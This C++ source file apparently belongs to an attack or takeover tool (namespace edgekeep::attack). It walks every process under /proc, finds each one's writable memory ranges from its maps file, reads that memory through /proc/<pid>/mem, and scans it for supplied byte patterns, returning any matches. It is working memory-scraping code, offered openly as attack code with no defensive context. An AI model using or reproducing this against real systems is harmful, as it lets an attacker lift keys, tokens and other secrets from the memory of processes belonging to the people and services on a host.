#include <dirent.h>
#include <fcntl.h>
#include <unistd.h>

#include <algorithm>
#include <cstdio>
#include <memory>
#include <string>

#include "takeover.h"

namespace edgekeep::attack {
namespace {

constexpr std::size_t kChunk = std::size_t{1} << 20;

struct Range {
  std::uint64_t begin = 0;
  std::uint64_t end = 0;
};

std::vector<Range> WritableRangesOf(const std::string& process) {
  std::vector<Range> ranges;
  const std::unique_ptr<std::FILE, int (*)(std::FILE*)> maps(std::fopen((process + "/maps").c_str(), "re"), fclose);
  char line[512];
  while (maps && std::fgets(line, sizeof line, maps.get()) != nullptr) {
    Range range;
    char rights[5] = {};
    if (std::sscanf(line, "%lx-%lx %4s", &range.begin, &range.end, rights) == 3 && rights[1] == 'w') {
      ranges.push_back(range);
    }
  }
  return ranges;
}

void LookIn(const std::string& process, Needles& needles) {
  const int memory = open((process + "/mem").c_str(), O_RDONLY | O_CLOEXEC);
  if (memory < 0) return;
  std::vector<std::uint8_t> chunk(kChunk);
  for (const Range& range : WritableRangesOf(process)) {
    for (std::uint64_t at = range.begin; at < range.end; at += kChunk - kNeedleSize) {
      const std::size_t size = std::min<std::uint64_t>(kChunk, range.end - at);
      const ssize_t got = pread(memory, chunk.data(), size, static_cast<off_t>(at));
      if (got <= 0) break;
      needles.LookIn({chunk.data(), static_cast<std::size_t>(got)});
    }
  }
  close(memory);
}

// Of every process there is, by its directory's name.
std::vector<std::string> AllProcesses() {
  std::vector<std::string> names;
  const std::unique_ptr<DIR, int (*)(DIR*)> processes(opendir("/proc"), closedir);
  while (const dirent* const entry = processes ? readdir(processes.get()) : nullptr) {
    const std::string name = entry->d_name;
    if (name.find_first_not_of("0123456789") == std::string::npos) names.push_back(name);
  }
  return names;
}

}  // namespace

std::vector<std::uint8_t> SearchProcesses(std::span<const Needle> given) {
  return SearchProcesses(given, AllProcesses());
}

std::vector<std::uint8_t> SearchProcesses(std::span<const Needle> given, const std::vector<std::string>& processes) {
  Needles needles(given);
  for (const std::string& name : processes) LookIn("/proc/" + name, needles);
  return needles.found();
}

}  // namespace edgekeep::attack
